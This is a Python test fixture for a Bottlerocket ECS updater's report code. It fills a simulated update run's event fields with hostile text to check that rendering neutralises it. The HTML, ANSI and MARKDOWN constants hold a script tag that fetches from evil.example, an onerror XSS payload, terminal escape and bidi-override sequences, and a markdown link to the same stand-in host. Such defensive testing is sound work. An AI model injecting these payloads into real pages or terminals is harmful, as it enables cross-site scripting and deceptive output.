"""Texts with which a host, a task or a repository could try to attack its readers."""

from __future__ import annotations

from datetime import timedelta

from tests.report.samples import NEW, OLD, RUN, START, name

from bottlerocket_ecs_updater.core.model.event import (
    Claimed,
    Drained,
    Event,
    HostChecked,
    InstanceFailed,
    InstanceHeld,
    InstanceQuarantined,
    RunFinished,
    RunHalted,
    RunStarted,
)
from bottlerocket_ecs_updater.core.model.host_report import HostProblem, Problem
from bottlerocket_ecs_updater.core.model.ids import InstanceId
from bottlerocket_ecs_updater.core.model.outcome import Outcome, Quarantined, RunOutcome
from bottlerocket_ecs_updater.core.model.reasons import Failure, Reason, failed, hold

HTML = "<script>fetch('https://evil.example/')</script><img src=x onerror=alert(1)>\"'>&amp;</title></svg>"
ANSI = "\x1b[31mred\x1b]0;title\x07\x1b[2J\r\nsecond\u2028line\u202ereversed\u200b\x00\x9b31m"
MARKDOWN = "``` `code` | a | **bold** [link](https://evil.example) <b>html</b> # head"
LONG = "x" * 24_000
ALL = f"{HTML} {ANSI} {MARKDOWN}"


def hostile_run() -> list[Event]:
    """A run in which every text that others can choose is hostile."""
    later = START + timedelta(minutes=20)
    why = failed(Failure.NOT_BACK, limit="20m", detail=ALL)
    long = failed(Failure.APPLY_FAILED, detail=LONG)
    odd = InstanceId(f"i-{HTML}")
    held = hold(Reason.STANDALONE_TASK, task=ALL)
    outcomes: dict[InstanceId, Outcome] = {name(1): Quarantined(why), name(2): long, odd: held}
    return [
        RunStarted(START, RUN, HTML, HTML),
        HostChecked(START, name(3), HostProblem(Problem.FAILED, ALL)),
        InstanceHeld(START, odd, held),
        Claimed(START, name(1), OLD, NEW, downgrade=False),
        Drained(START, name(1), 3),
        InstanceFailed(START, name(2), long),
        InstanceQuarantined(later, name(1), why),
        RunHalted(later, ALL),
        RunFinished(later, RUN, RunOutcome.HALTED, 4, {}, later - START, ALL, outcomes, {HTML: 1}),
    ]
